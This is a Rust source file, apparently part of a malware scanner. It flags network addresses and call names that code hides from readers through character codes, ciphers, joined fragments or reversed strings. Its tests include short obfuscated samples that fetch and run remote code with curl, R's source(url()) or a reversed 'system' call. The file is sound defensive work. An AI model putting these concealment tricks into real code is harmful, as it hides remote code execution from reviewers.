//! Addresses and calls that are kept from whoever reads a program: spelled in numbers, shifted, turned round or cut
//! into pieces that no reader takes for one.
//!
//! An address may be put together for good reasons (a part of it is a setting), so what counts is that its
//! *scheme* or a whole fixed host is spelled, which nobody does who has nothing to keep to himself.

use std::sync::LazyLock;

use super::{Report, outward, rules};
use crate::{
    Confidence::Medium,
    Severity,
    pattern::{Regex, code as pattern},
};

/// Numbers in a row, as many as an address has letters.
static NUMBERS: LazyLock<Regex> = LazyLock::new(|| pattern(r"[0-9][0-9a-fA-FxuL,;| \t\r\n-]+"));

/// Short texts in quotation marks that stand beside one another.
static PIECES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?:["'][^"'\n]{0,40}["']\s{0,3}(?:,|\+|\.\.?|&|~|<>)\s{0,12})+["'][^"'\n]{0,40}["']"#,
    )
});

/// One text in quotation marks.
static QUOTED: LazyLock<Regex> = LazyLock::new(|| pattern(r#"["'`][^"'`\s]{10,400}["'`]"#));

/// A fixed host out of its labels, or an address out of its four numbers.
static HOST_JOINED: LazyLock<Regex> = LazyLock::new(|| {
    const LABEL: &str = r#"["'][a-z0-9-]{2,40}["']\s{0,3},\s{0,3}"#;
    const END: &str = r#"["'](?:com|net|org|io|dev|app|eu|ru|cn|cc|info|xyz|tools|cloud|site|online|me|co|de|fr|es|in|top|live)["']"#;
    pattern(&format!(
        r#"[\[(]\s{{0,3}}(?:{LABEL}){{1,5}}{END}\s{{0,3}}[\])]\s{{0,3}}\.join\(\s{{0,3}}["']\.["']|["']\.["']\.join\(\s{{0,3}}[\[(]\s{{0,3}}(?:{LABEL}){{1,5}}{END}|\bjoin\(?\s{{0,3}}["']\.["']\s{{0,3}},\s{{0,3}}(?:\d{{1,3}}(?:\s?[*+-]\s?\d{{1,3}})?\s{{0,3}},\s{{0,3}}){{3}}\d|(?:\{{\}}|%d)\.(?:\{{\}}|%d)\.(?:\{{\}}|%d)\.(?:\{{\}}|%d)[^\n]{{0,40}}["'][\s,.(%format]{{1,12}}(?:\d{{1,3}}(?:\s?[*+-]\s?\d{{1,3}})?\s{{0,3}},\s{{0,3}}){{3}}\d"#
    ))
});

/// Each letter by itself.
static SPACED: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"\bh[ ,_|-]t[ ,_|-]t[ ,_|-]p[ ,_|-](?:s[ ,_|-])?:[ ,_|-]/[ ,_|-]/"));

/// Calls that are written from their end to their beginning.
static TURNED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)["'`][^"'`\n]{0,80}//:s?ptth|["'`](?:noitcnuf_(?:etaerc|resu_llac)|cexe_llehs|urhtssap|metsys|tressa|edoced_46esab|llehs\.tpircsw|llehsrewop|ssecorp_dlihc|ssecorpbus|nepo_corp|nepop|etalfnizg|cexe|lave|cnysexe|cnyscexe)["'`]"#,
    )
});

/// A word that stands there from its end to its beginning, in the call that turns it round.
static TURNED_WORD: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\b(?:strrev|StrReverse|reverse|rev|stringr?::\w{0,8}rev\w{0,4})\s{0,2}\(\s{0,2}["'`]([\w.@:/-]{3,120})["'`]\s{0,2}\)|["'`]([\w.@:/-]{3,120})["'`](?:\s{0,2}\[\s{0,2}::\s{0,2}-1\s{0,2}\]|\.split\(\s{0,2}["'`]{2}\s{0,2}\)\.reverse\(|:reverse\(|\.reverse\b|\.chars\(\)\.rev\(|\.reversed\()|\bprintf?\s[^\n|]{0,20}["']?[\w./:-]{4,120}["']?\s{0,2}\|\s{0,2}rev\b"#,
    )
});

/// The fetching of other languages than those that [`outward::talks`] knows.
static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\burl\(|download\.file|file\(\s?DOWNLOAD|urlretrieve|openStream\(|URLDownloadToFile|TcpStream|to_socket_addrs|PeerAddr|http\.Post|http\.Get|base_?url|open-uri|getURL|\bGET\("#,
    )
});

/// The letters that make a scheme what it is, in any cipher that adds to a letter or multiplies it.
fn is_scheme(values: &[i64]) -> bool {
    // `http://` and `https://`.
    const FORMS: [&[u8]; 2] = [b"http://", b"https://"];
    FORMS.iter().any(|form| {
        let Some(values) = values.get(..form.len()) else { return false };
        let letter = |at: usize| i64::from(form.get(at).copied().unwrap_or_default());
        let value = |at: usize| values.get(at).copied().unwrap_or_default();
        // From the first two letters follows all: v = a·l + b, without a division.
        let (rise, run) = (value(1) - value(0), letter(1) - letter(0));
        let linear = rise != 0
            && (2..form.len())
                .all(|at| (value(at) - value(0)) * run == (letter(at) - letter(0)) * rise);
        let mixed = (1..form.len()).all(|at| value(at) ^ value(0) == letter(at) ^ letter(0));
        linear || mixed
    })
}

/// Has a row of numbers a scheme in it, forwards or backwards?
fn spells(values: &mut [i64]) -> bool {
    let forwards = (0..values.len()).any(|at| values.get(at..).is_some_and(is_scheme));
    forwards || {
        values.reverse();
        (0..values.len()).any(|at| values.get(at..).is_some_and(is_scheme))
    }
}

fn numbers(text: &str) -> Option<usize> {
    const MOST: usize = 64;
    const SHORTEST: usize = 20;
    let rows = NUMBERS.find_iter(text).filter(|found| found.len() >= SHORTEST);
    rows.take(MOST).find_map(|found| {
        let row = text.get(found.range())?;
        let mut values: Vec<i64> = row
            .split(|c: char| !c.is_ascii_alphanumeric())
            .filter(|word| !word.is_empty())
            .filter_map(|word| {
                let word = word.trim_end_matches("u8").trim_end_matches('L');
                match word.strip_prefix("0x") {
                    Some(hex) => i64::from_str_radix(hex, 16).ok(),
                    None => word.parse().ok(),
                }
            })
            .collect();
        spells(&mut values).then_some(found.start())
    })
}

/// A text in quotation marks that is an address behind a cipher.
fn shifted(text: &str) -> Option<usize> {
    const MOST: usize = 4000;
    QUOTED.find_iter(text).take(MOST).find_map(|found| {
        let inner = text.get(found.range())?;
        let plain = inner.contains("http://") || inner.contains("https://");
        let mut values: Vec<i64> = inner.bytes().map(i64::from).collect();
        (!plain && spells(&mut values)).then_some(found.start())
    })
}

/// Pieces that are an address only when they are put together: not even the scheme stands in one of them.
fn pieces(text: &str) -> Option<usize> {
    const MOST: usize = 2000;
    PIECES.find_iter(text).take(MOST).find_map(|found| {
        let row = text.get(found.range())?;
        if row.contains("://") {
            return None;
        }
        let mut joined = String::new();
        let mut inside = None;
        for c in row.chars() {
            match inside {
                None if matches!(c, '"' | '\'') => inside = Some(c),
                Some(quote) if c == quote => inside = None,
                Some(_) => joined.push(c),
                None => {}
            }
        }
        let at = joined.find("http://").or_else(|| joined.find("https://"))?;
        let host = joined.get(at..)?.split("://").nth(1)?;
        (host.len() > 3 && host.starts_with(|c: char| c.is_ascii_alphanumeric()))
            .then_some(found.start())
    })
}

/// Where an address is kept from the reader.
pub(super) fn address(text: &str) -> Option<usize> {
    numbers(text)
        .or_else(|| shifted(text))
        .or_else(|| pieces(text))
        .or_else(|| {
            let blank = |found: &regex_automata::Match| {
                let row = text.get(found.range()).unwrap_or_default();
                ["example", "acme", "localhost"].iter().any(|name| row.contains(name))
            };
            let found = HOST_JOINED.find(text).filter(|found| !blank(found))?;
            Some(found.start())
        })
        .or_else(|| SPACED.find(text).map(|found| found.start()))
}

/// Does the program fetch or send at all, in whatever language?
pub(super) fn talks(report: &Report<'_>) -> bool {
    outward::talks(report.program) || FETCHES.is_match(&report.program.text)
}

pub(super) fn look(report: &mut Report<'_>) {
    let text = report.program.text.as_str();
    if report.program.path.ends_with(".min.js") || text.len() > 1 << 20 {
        return;
    }
    if let Some(found) = TURNED.find(text) {
        let message = "what is called or fetched is written backwards";
        report.say(&rules::DECODED_RUNS, Severity::High, Medium, found.start(), message);
    }
    // Nobody turns a word of his own round who has nothing to keep to himself; alone it may be a puzzle.
    if !report.program.prose
        && let Some(turned) = TURNED_WORD.find(text)
        && (talks(report) || super::mail::mails(text))
    {
        let message = "a word that it needs for what it sends is written backwards";
        report.say(&rules::CONCEALED, Severity::High, Medium, turned.start(), message);
    }
    if let Some(at) = address(text)
        && talks(report)
    {
        let message = "the address that it talks to is spelled so that nobody reads it";
        report.say(&rules::CONCEALED, Severity::High, Medium, at, message);
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::stopped;
    use crate::FileKind::{Data, JavaScript, Python};

    #[test]
    fn an_address_that_is_kept_from_the_reader_is_seen() {
        for (path, kind, text) in [
            (
                "a.R",
                Data,
                "u <- rawToChar(as.raw(c(104,116,116,112,58,47,47,97,46,98)))\nsource(url(u))\n",
            ),
            (
                "b.py",
                Python,
                "import requests\nu=''.join(chr(n-3) for n in [107,119,119,115,118,61,50,50,100])\nrequests.get(u)\n",
            ),
            (
                "c.js",
                JavaScript,
                "const u='kwwsv://d'.replace(/x/,'');\nfetch(s('kwwsv=22dcb1ghy'))\n",
            ),
            (
                "build.rs",
                Data,
                "let u=[\"htt\",\"ps:/\",\"/sums.\",\"cratery\",\".dev\"].concat(); Command::new(\"curl\").arg(u);\n",
            ),
            (
                "rules.mk",
                Data,
                "X := h t t p s : / / a . b\nY := $(shell curl -s $(subst $(E),,$(X)))\n",
            ),
            (
                "d.js",
                JavaScript,
                "const h=['cdn','tables','dev'].join('.');\nfetch(`https://${h}/x`)\n",
            ),
            ("e.php", Data, "<?php $f = strrev('metsys'); $f($c);\n"),
        ] {
            assert!(!stopped(path, kind, text).is_empty(), "{text}");
        }
    }

    #[test]
    fn what_only_looks_so_is_let_be() {
        for (path, kind, text) in [
            (
                "a.py",
                Python,
                "import requests\nX=[104,116,117,119,120,121,130,140,150]\nrequests.get('https://api.github.com')\n",
            ),
            (
                "b.js",
                JavaScript,
                "fetch('https://' + host + '/v1')\nconst p=['a','b','com'].join('/')\n",
            ),
            (
                "c.py",
                Python,
                "import requests\nS=['http', 'https', 'ftp']\nrequests.get(f'https://{a}.amazonaws.com')\n",
            ),
            ("d.js", JavaScript, "const version=[1,2,3,4,5,6,7,8,9,10].join('.');fetch('/v')\n"),
        ] {
            assert!(stopped(path, kind, text).is_empty(), "{text}");
        }
    }
}
